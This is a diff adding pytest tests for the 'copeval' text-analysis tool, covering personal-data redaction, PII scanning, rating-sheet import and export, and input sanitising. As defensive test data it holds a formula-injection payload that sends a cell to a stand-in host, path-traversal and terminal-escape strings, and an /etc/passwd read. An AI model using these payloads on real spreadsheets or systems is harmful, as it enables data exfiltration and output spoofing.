@@ -237,3 +237,244 @@ def test_trend_sections_with_hostile_round_labels_and_site_names(hostile_rounds,
     assert re.sub(r"\s+", "", '#read("/etc/passwd")') in flat
     assert "root:x:0" not in text and "5555" not in text and "ana@example.org" not in text
     assert "\u202e" not in text
+
+
+# ------------------------------------------------------------------ personal data, new columns
+PHONE, EMAIL = "5555 1234", "ana.lopez@example.org"
+PII = f"llame al +502 {PHONE} o escriba a {EMAIL}"
+
+
+@pytest.fixture
+def rounds_with_pii(tmp_path):
+    """demo-rounds with a phone number and an e-mail in the new free-text places: a
+    ``site_rounds.csv`` note and its ``_es``/``_en`` variants, a segment's ``text_en``
+    and ``text_es``, the title and description variants, and a round label."""
+    if not (ROUNDS / "datapackage.json").is_file():
+        pytest.skip("data/demo-rounds is not there")
+    project = tmp_path / "rounds"
+    shutil.copytree(ROUNDS, project)
+    pd.DataFrame(
+        {
+            "site_id": ["VC"],
+            "round": ["2025"],
+            "notes": [f"nota {PII}"],
+            "notes_es": [f"nota es {PII}"],
+            "notes_en": [f"note en {PII}"],
+            "police_source": [f"fuente {PII}"],
+        }
+    ).to_csv(project / "site_rounds.csv", index=False)
+    seg = pd.read_csv(project / "segments.csv", dtype=str, keep_default_na=False)
+    seg.loc[0, "text_en"] = f"translation {PII}"
+    seg["text_es"] = ""
+    seg.loc[1, "text_es"] = f"traducción {PII}"
+    seg.to_csv(project / "segments.csv", index=False)
+    desc = json.loads((project / "datapackage.json").read_text(encoding="utf-8"))
+    desc["copeval"]["title_es"] = f"Título {PII}"
+    desc["copeval"]["title_en"] = f"Title {PII}"
+    desc["copeval"]["rounds"][1]["label_en"] = f"Follow-up {PII}"
+    desc["description_es"] = f"Descripción {PII}"
+    (project / "datapackage.json").write_text(json.dumps(desc), encoding="utf-8")
+    return project
+
+
+def _leaks(value) -> bool:
+    text = json.dumps(value, default=str, ensure_ascii=False)
+    return PHONE in text or EMAIL in text
+
+
+def test_readers_view_redacts_site_rounds_and_translations(rounds_with_pii):
+    """Found: ``ReportData.for_readers`` redacted ``sites.csv`` but returned the project's
+    ``site_rounds.csv`` and the segments' ``text_en``/``text_es`` as written, so
+    ``view.project.site_text(site, "notes", lang, round=...)`` -- the round's note a report
+    prints -- and a quoted translation carried the phone number and e-mail."""
+    from copeval.project import load_project
+    from copeval.report.data import ReportData
+
+    raw = load_project(rounds_with_pii)
+    assert _leaks(raw.site_text("VC", "notes", "es", round="2025"))  # planted
+    data = ReportData.load(rounds_with_pii, n_boot=30, complete=False, memo=False)
+    for lang in ("es", "en"):
+        view = data.for_readers(lang).project
+        for col in ("notes", "police_source"):
+            assert not _leaks(view.site_text("VC", col, lang, round="2025")), (lang, col)
+        assert not _leaks(view.site_context("VC", "2025")), lang
+        assert not _leaks(view.site_rounds.to_dict("records")), lang
+        assert not _leaks(view.segments.to_dict("records")), lang
+        assert not _leaks(view.title(lang)) and not _leaks(view.meta), lang
+        assert not _leaks([view.round_label(r, lang) for r in view.round_ids]), lang
+    # the analysis itself is untouched
+    assert _leaks(data.project.site_rounds.to_dict("records"))
+
+
+def test_validate_finds_personal_data_in_the_new_free_text_places(rounds_with_pii):
+    """Found: ``copeval validate``'s scan of free-text fields (privacy.scan_fields_pii)
+    skipped ``site_rounds.csv``, the ``title_es``/``title_en`` and ``description_es``
+    variants and the round labels of ``datapackage.json``."""
+    from copeval import privacy
+    from copeval.project import load_project
+
+    found = privacy.scan_fields_pii(load_project(rounds_with_pii))
+    where = {(f, c) for f, c in zip(found["file"], found["column"], strict=True)}
+    for col in ("notes", "notes_es", "notes_en", "police_source"):
+        assert ("site_rounds.csv", col) in where, col
+    assert ("segments.csv", "text_en") in where and ("segments.csv", "text_es") in where
+    for key in ("copeval.title_es", "copeval.title_en", "description_es"):
+        assert ("datapackage.json", key) in where, key
+    assert ("datapackage.json", "copeval.rounds[2].label_en") in where
+    assert not _leaks(found.to_dict("records"))  # never the data itself
+
+
+# ---------------------------------------------------------------------- valence sheet round trip
+def _sheet_rows(path):
+    import csv
+
+    with path.open(encoding="utf-8-sig", newline="") as fh:
+        return list(csv.DictReader(fh))
+
+
+def _write_sheet(path, rows, *, encoding="utf-8", newline="\n"):
+    import csv
+
+    with path.open("w", encoding=encoding, newline="") as fh:
+        w = csv.DictWriter(fh, fieldnames=list(rows[0]), lineterminator=newline)
+        w.writeheader()
+        w.writerows(rows)
+
+
+@pytest.mark.parametrize("name", ["segments.csv", "datapackage.json", "sites.csv", "texts/x.txt"])
+def test_valence_export_never_overwrites_the_project(tiny_project, tmp_path, capsys, name):
+    """Found: ``copeval valence export P --out P/segments.csv --force`` replaced the
+    project's segments with the rating sheet (and ``--all`` wrote every text into it); the
+    project no longer loaded. The same through a symbolic link."""
+    from copeval.cli import main
+
+    before = {p: p.read_bytes() for p in tiny_project.rglob("*") if p.is_file()}
+    target = tiny_project / name
+    args = ["valence", "export", str(tiny_project), "--all", "--force", "--out"]
+    assert main([*args, str(target)]) == 1
+    assert "is a file of the project" in capsys.readouterr().err
+    link = tmp_path / "link.csv"
+    link.symlink_to(target)
+    assert main([*args, str(link)]) == 1
+    assert {p: p.read_bytes() for p in tiny_project.rglob("*") if p.is_file()} == before
+    # a new sheet inside the project folder is fine
+    assert (
+        main(["valence", "export", str(tiny_project), "--out", str(tiny_project / "r.csv")]) == 0
+    )
+
+
+def test_a_million_row_sheet_gives_a_short_message(tiny_project, tmp_path, capsys):
+    """Found: every problem was listed, so a sheet of unknown or repeated IDs printed one
+    line per row (16 MB of error for 200,000 rows). Now the first 30 and a count."""
+    from copeval.cli import main
+
+    sheet = tmp_path / "big.csv"
+    with sheet.open("w", encoding="utf-8") as fh:
+        fh.write("segment_id,valence\n")
+        fh.writelines("G1,1\n" if i % 2 else f"X{i},1\n" for i in range(1_000_000))
+    before = (tiny_project / "segments.csv").read_bytes()
+    assert main(["valence", "import", str(tiny_project), str(sheet)]) == 1
+    err = capsys.readouterr().err
+    assert len(err) < 10_000 and "1000000 problem(s)" in err and "999970 more" in err
+    assert (tiny_project / "segments.csv").read_bytes() == before
+
+
+@pytest.mark.parametrize(
+    "encoding, newline", [("utf-8-sig", "\r\n"), ("utf-8", "\r\n"), ("utf-8-sig", "\n")]
+)
+def test_sheet_with_bom_and_crlf_imports(tiny_project, tmp_path, encoding, newline):
+    from copeval.cli import main
+    from copeval.project import load_project
+
+    sheet = tmp_path / "r.csv"
+    _write_sheet(
+        sheet, [{"segment_id": "G1", "valence": "-1"}], encoding=encoding, newline=newline
+    )
+    assert main(["valence", "import", str(tiny_project), str(sheet), "--overwrite"]) == 0
+    assert load_project(tiny_project).segments.set_index("segment_id").loc["G1", "valence"] == -1
+
+
+def test_non_utf8_sheet_is_one_readable_error(tiny_project, tmp_path, capsys):
+    from copeval.cli import main
+
+    sheet = tmp_path / "r.csv"
+    sheet.write_bytes("segment_id,valence\nG1,1\nG2,año\n".encode("latin-1"))
+    before = (tiny_project / "segments.csv").read_bytes()
+    assert main(["valence", "import", str(tiny_project), str(sheet)]) == 1
+    err = capsys.readouterr().err
+    assert "Traceback" not in err and "r.csv" in err and "UTF-8" in err
+    assert (tiny_project / "segments.csv").read_bytes() == before
+
+
+def test_formula_text_is_neutralised_in_the_sheet(tiny_project, tmp_path):
+    """Segment text is shown as text, never run as a formula, whatever it starts with."""
+    from copeval.cli import main
+
+    src = pd.read_csv(tiny_project / "sources.csv", dtype=str, keep_default_na=False)
+    seg = pd.read_csv(tiny_project / "segments.csv", dtype=str, keep_default_na=False)
+    path = tiny_project / src.set_index("source_id").loc[seg.loc[0, "source_id"], "text_path"]
+    text = path.read_text(encoding="utf-8")
+    start = int(seg.loc[0, "start"])
+    evil = '=HYPERLINK("http://x.invalid/?"&A1)'
+    end = start + len(evil)
+    path.write_text(text[:start] + evil + text[end:], encoding="utf-8")
+    sheet = tmp_path / "r.csv"
+    assert main(["valence", "export", str(tiny_project), "--all", "--out", str(sheet)]) in (0, 1)
+    rows = _sheet_rows(sheet) if sheet.exists() else []
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "@", "\t", "\r")), value
+            assert not (value.startswith(("+", "-")) and not re.fullmatch(r"[+-]\d", value))
+
+
+def test_segment_ids_starting_with_an_apostrophe_keep_their_rating(tiny_project, tmp_path):
+    """Found: the import takes off one leading apostrophe (the one a formula-safe export
+    adds), so a segment whose ID itself starts with one ("'G2") came back as "G2" -- and
+    its rating went to another segment of that name. The export now doubles it."""
+    from copeval.cli import main
+    from copeval.project import load_project
+
+    segs = pd.read_csv(tiny_project / "segments.csv", dtype=str, keep_default_na=False)
+    extra = segs.iloc[[1]].assign(segment_id="'G2", valence="")
+    segs = pd.concat([segs, extra], ignore_index=True)
+    segs.loc[1, "valence"] = ""
+    segs.to_csv(tiny_project / "segments.csv", index=False)
+    sheet = tmp_path / "r.csv"
+    assert main(["valence", "export", str(tiny_project), "--out", str(sheet)]) == 0
+    rows = _sheet_rows(sheet)
+    for row in rows:
+        row["valence"] = (
+            "-2"
+            if row["segment_id"].lstrip("'") == "G2" and row["segment_id"].startswith("'")
+            else "1"
+        )
+    _write_sheet(sheet, rows)
+    assert main(["valence", "import", str(tiny_project), str(sheet)]) == 0
+    val = load_project(tiny_project).segments.set_index("segment_id")["valence"]
+    assert val["'G2"] == -2 and val["G2"] == 1
+
+
+# --------------------------------------------------------------------------- import --round
+@pytest.mark.parametrize(
+    "rnd", ["\x1b[2J\x1b[31mowned", "../../etc", "a/b", "x" * 5000, "2025\u202e", ""]
+)
+def test_import_round_message_is_one_safe_line(tmp_path, capsys, rnd):
+    """Found: ``--round`` was echoed raw in the error, so an escape sequence reached the
+    terminal (and the suggested JSON was not JSON for a round with a quote). A round must
+    be declared in datapackage.json, so path separators and ``..`` never reach a path."""
+    from copeval.cli import main
+
+    data = REPO / "tests" / "data" / "interop"
+    nvivo = data / "cases_variables.qdpx"
+    if not nvivo.is_file():
+        pytest.skip("tests/data/interop is not there")
+    target = tmp_path / "q"
+    if not (ROUNDS / "datapackage.json").is_file():
+        pytest.skip("data/demo-rounds is not there")
+    shutil.copytree(ROUNDS, target)
+    before = {p: p.read_bytes() for p in target.rglob("*") if p.is_file()}
+    assert main(["import", str(nvivo), "--into", str(target), "--round", rnd]) == 1
+    err = capsys.readouterr().err
+    assert "\x1b" not in err and "\u202e" not in err and "Traceback" not in err
+    assert len(err) < 2000 and err.count("\n") == 1
+    assert {p: p.read_bytes() for p in target.rglob("*") if p.is_file()} == before
